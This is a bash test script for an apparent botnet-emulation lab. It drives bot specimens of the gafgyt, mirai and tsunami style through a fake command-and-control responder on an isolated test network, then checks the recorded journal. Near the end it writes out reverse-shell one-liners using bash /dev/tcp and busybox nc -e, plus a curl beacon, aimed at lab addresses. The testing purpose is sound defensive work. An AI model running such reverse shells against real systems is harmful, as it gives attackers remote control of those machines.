#!/usr/bin/env bash
# Each family drives its specimen through the whole list, over real sockets in
# a lab, with the specimen beside the lab instead of in a machine of its own.
# The specimens of a device's tests are the same; these runs take no QEMU.
. "$(dirname "$0")/../tap.sh"
. "$TOP/tests/lab/_lab.bash"
[[ -x $BUILD/responder ]] || { skip families.sh 'no responder is built'; exit 0; }
arch=i386
[[ -x $BUILD/specimens/$arch/linebot ]] || arch=amd64
[[ -x $BUILD/specimens/$arch/linebot ]] ||
	{ skip families.sh 'no specimen is built for this machine'; exit 0; }

lab up

# drive SPECIMEN OPTION...: starts the responder and the specimen, waits until
# the profile says that it is done, and stops both. The journal is $journal.
drive() {
	local specimen=$1 responder bot line
	shift
	run=$TMP/run-$((++runs))
	journal=$run/session.jsonl
	mkdir "$run"
	rm -f "$TMP/ready"
	mkfifo "$TMP/ready"
	exec 8<>"$TMP/ready"
	"$kage" lab exec --lab "$LAB" "$BUILD/responder" --run "$run" --profiles "$TOP/lua-profiles" \
		--ready-fd 8 --set quiet=0.3 --set window=1 --set hold=1.2 "$@" \
		>"$run/log" 2>&1 &
	responder=$!
	read -r -t 10 -u 8 line || {
		not_ok "$specimen: the responder is ready" "$(<"$run/log")"
		return
	}
	"$kage" lab exec --lab "$LAB" --as-device unshare --pid --fork --kill-child \
		sh -c "${BOT:-$BUILD/specimens/$arch/$specimen}; sleep 90" &
	bot=$!
	wait_for 60 finished || diag "$specimen: not finished"
	kill -KILL "$bot" 2>/dev/null # unshare takes no other
	kill "$responder" 2>/dev/null
	wait "$bot" "$responder" 2>/dev/null
	rm -f /tmp/.{line,irc,poll,bin,shell,tutor}bot
	[[ -z ${KEEP:-} ]] || cp "$journal" "$KEEP/$runs-$specimen.jsonl"
}
runs=0
kage=$TOP/scripts/kagemusha

finished() { events '.event_type == "run" and .run.state == "finished"' | grep -q .; }
# events FILTER: the journal's events that fit.
events() { jq -c "select($1)" "$journal" 2>/dev/null; }
count() { events "$1" | wc -l; }
# commands: the names of what was sent, each once, sorted.
commands() { events '.event_type == "command"' | jq -r .command_info.name | sort -u; }
# listed FAMILY: the same, of the family's own list.
listed() {
	"$TOP/scripts/kagemusha-profile" list --json |
		jq -r "select(.name == \"$1\") | .commands[]" | sort -u
}

# whole FAMILY: the checks that hold for every family.
whole() {
	is "$1: every command was sent" \
		"$(comm -13 <(commands) <(listed "$1") | paste -sd,)" ''
	is "$1: the run is finished" \
		"$(count '.event_type == "run" and .run.state == "finished"')" 1
	is "$1: no error" "$(count '.event_type == "error"')" 0
	is "$1: commands name the lab only" "$(events '.event_type == "command" and
		.command_info.target != null and .command_info.target != "198.18.0.1"')" ''
}
# after NAME: was a disconnection noted after this command?
after() {
	count ".event_type == \"note\" and .note.kind == \"disconnected\" and
		.note.after == \"$1\""
}
# said NAME TEXT: was this the reply to the command?
said() {
	check "$1 is answered" grep -q "$2" <(events ".event_type == \"note\" and
		.note.kind == \"reply\" and .note.name == \"$1\"")
}
# reached PROTO PORT: sessions of the specimen to the lab's target.
reached() {
	count ".event_type == \"open\" and .proto == \"$1\" and
		.dest_ip == \"198.18.0.1\" and .dest_port == $2"
}

drive linebot --profile gafgyt
whole gafgyt
is 'linebot: hangs up after CLOSE and after CRASH' "$(after CLOSE)$(after CRASH)" 11
said GETLOCALIP 'My IP: 10.13.37.2'
is 'linebot: TCP connects four times' "$(reached TCP 9999)" 4
check 'linebot: UDP and HOLD send datagrams' test "$(reached UDP 9999)" -ge 2
is 'linebot: HTTP asks the web server' "$(count '.event_type == "note" and
	.note.kind == "http" and .note.target == "/index.html"')" 1
is 'linebot: RESOLVE asks for a name' "$(count '.event_type == "dns" and
	.dns.rrname == "www.resolve.example"')" 1

drive vectorbot --profile mirai
whole mirai
is 'vectorbot: hangs up without targets, crashes when options are cut' \
	"$(after 'no target')$(after 'cut options')" 11
is 'vectorbot: its name is noted' "$(count '.note.id == "specimen"')" 3
is 'vectorbot: vector 3 connects' "$(reached TCP 9999)" 3

drive ircbot --profile tsunami
whole tsunami
is 'ircbot: leaves after SERVER, crashes after SEGV' "$(after SERVER)$(after SEGV)" 11
said VERSION 'ircbot, a specimen'
is 'ircbot: the key of its channel is noted' "$(events '.note.kind == "channel"' |
	jq -r .note.key | sort -u)" harmless

drive pollbot --profile httpbot --set only=info,udp,get,hold,drop,exec
is 'httpbot: tasks are taken one by one' "$(events '.event_type == "command"' |
	jq -r .command_info.name | paste -sd,)" 'info,udp,get,hold,stop hold,drop,exec'
is 'httpbot: no error' "$(count '.event_type == "error"')" 0
said info 'i686\|x86_64'

drive shellbot --profile shell
whole shell
is 'shellbot: ends after abort' "$(after abort)" 1
said id 'uid='
said nonsense 'not found'

drive binbot --profile binary --set 'commands=udp: 10 08 01 {target:4} {port:2} 03|'\
'tcp: 10 08 02 {target:4} {port:2} 02|ask: 10 08 06 00 00 00 00 00 00 00|'\
'bye: 10 08 07 00 00 00 00 00 00 00|crash: 10 08 08 00 00 00 00 00 00 00|'\
'none: 10 08 63 00 00 00 00 00 00 00'
is 'binary: every command was sent' "$(events '.event_type == "command"' |
	jq -r .command_info.name | paste -sd,)" udp,tcp,ask,bye,crash,none
is 'binbot: hangs up and crashes' "$(after bye)$(after crash)" 11
is 'binbot: connects twice' "$(reached TCP 9999)" 2
said ask 'a specimen'

drive linebot --profile line --set prefix='!* ' \
	--set 'commands=UDP {target} {port} 2|who: GETLOCALIP|NOTHING'
said who 'My IP'
is 'line: every command was sent' "$(events '.event_type == "command"' |
	jq -r .command_info.name | paste -sd,)" 'UDP {target} {port} 2,who,NOTHING'

# The tutorial: a profile that was written from lua-profiles/README.md alone.
awk '/^```lua/ { on = 1; next } /^```/ { on = 0 } on' \
	"$TOP/lua-profiles/README.md" >"$TMP/tutor.lua"
drive tutorbot --profile "$TMP/tutor.lua"
is 'tutorbot: every command was sent' "$(events '.event_type == "command"' |
	jq -r .command_info.name | paste -sd,)" \
	'ring,call,keep,stop keep,leaf,guess,bye'
is 'tutorbot: three replies are as expected' \
	"$(count '.note.kind == "reply" and .note.matched')" 3
is 'tutorbot: hangs up after bye' "$(after bye)" 1

# auto: the first bytes, or silence, choose the family.
for pair in linebot:gafgyt vectorbot:mirai ircbot:tsunami pollbot:httpbot \
	shellbot:shell; do
	list=GETLOCALIP
	case $pair in
	vectorbot*) list=udp ;;
	ircbot*) list=VERSION ;;
	pollbot*) list=info ;;
	shellbot*) list=id ;;
	esac
	drive "${pair%:*}" --profile auto --set only=$list
	is "auto: ${pair%:*} is ${pair#*:}" "$(events '.event_type == "command"' |
		jq -r .profile | sort -u)" "${pair#*:}"
done

# Real programs: a shell that bash or busybox dials out with, silent or not.
# real COMMAND OPTION...: a bot of one line, which comes back every second.
real() {
	local command=$1
	shift
	printf '#!/bin/sh\nwhile :; do %s; sleep 1; done &\n' "$command" >"$TMP/bot"
	chmod +x "$TMP/bot"
	BOT=$TMP/bot drive real "$@"
}
real "bash -c 'exec bash -i >&/dev/tcp/198.18.7.7/4444 0>&1' 2>/dev/null" \
	--profile shell --set only=id,uname,echo,nonsense
said id 'uid='
said echo 'kage42musha'
real 'busybox nc 198.18.7.7 4444 -e /bin/sh' --profile auto --set only=id,echo
said id 'uid='
is 'a silent shell is found by its silence' \
	"$(events '.event_type == "command"' | jq -r .profile | sort -u)" shell
if command -v curl >/dev/null; then
	real 'curl -s http://gate.real.example/gate?id=5' --profile httpbot \
		--set only=info,udp
	is 'curl in a loop is driven' "$(events '.event_type == "command"' |
		jq -r .command_info.name | paste -sd,)" info,udp
else
	skip 'curl in a loop is driven' 'curl is not installed'
fi

lab down
